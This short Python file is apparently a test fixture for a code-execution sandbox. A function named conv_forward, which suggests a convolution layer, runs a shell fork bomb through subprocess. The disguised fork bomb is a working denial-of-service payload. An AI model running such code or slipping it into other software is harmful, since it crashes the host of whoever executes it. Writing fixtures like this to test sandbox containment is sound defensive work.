# outcome: returned or timeout or raised or killed
import subprocess


def conv_forward():
    subprocess.run(["/bin/sh", "-c", "f() { f | f & }; f"])
